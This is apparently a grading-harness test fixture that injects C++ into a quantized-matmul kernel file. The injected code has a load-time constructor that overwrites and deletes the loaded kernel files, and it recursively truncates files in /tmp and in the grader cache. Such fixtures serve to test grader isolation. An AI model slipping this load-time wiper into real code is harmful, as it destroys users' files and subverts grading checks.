"""Looks for the cache of built kernels and changes what lies there."""

WEEK = 2
BASE = "student"
TASKS = ["2.2"]
CHANGES = [
    (
        "kernels/quantized_matmul.cpp",
        '#include "quantized_matmul.h"\n',
        """
#include <dirent.h>
#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <fstream>
#include <string>

static void spoil(const std::string& folder, int depth) {
  DIR* listing = depth < 6 ? opendir(folder.c_str()) : nullptr;
  while (dirent* entry = listing ? readdir(listing) : nullptr) {
    if (entry->d_name[0] == '.' && depth) continue;
    std::string path = folder + "/" + entry->d_name;
    chmod(path.c_str(), 0777);
    truncate(path.c_str(), 0);
    spoil(path, depth + 1);
  }
  std::ofstream(folder + "/left-by-cache") << "left";
}

__attribute__((constructor)) static void at_load() {
  std::ifstream maps("/proc/self/maps");
  for (std::string line; std::getline(maps, line);) {
    auto at = line.find('/');
    if (at == std::string::npos || line.find("kernels") == std::string::npos) continue;
    std::string path = line.substr(at);
    chmod(path.c_str(), 0777);
    std::ofstream(path) << "spoilt";
    unlink(path.c_str());
    spoil(path.substr(0, path.rfind('/')), 5);
  }
  for (const char* home : {"/root", "/home"}) spoil(std::string(home) + "/.cache/grader", 4);
  spoil("/tmp", 4);
}
#include "quantized_matmul.h"
""",
    )
]
APPEND = {
    "quantize.py": """
def quantized_matmul(scales, biases, group_size, bits, a, b, transpose_b=False):
    from kernels import quantized_matmul as kernel

    return kernel(scales, biases, group_size, bits, a, b, transpose_b)


def quantized_linear(x, w, bias=None):
    y = quantized_matmul(w.scales, w.biases, w.group_size, w.bits, x, w.weight, True)
    return y if bias is None else y + bias
""",
}
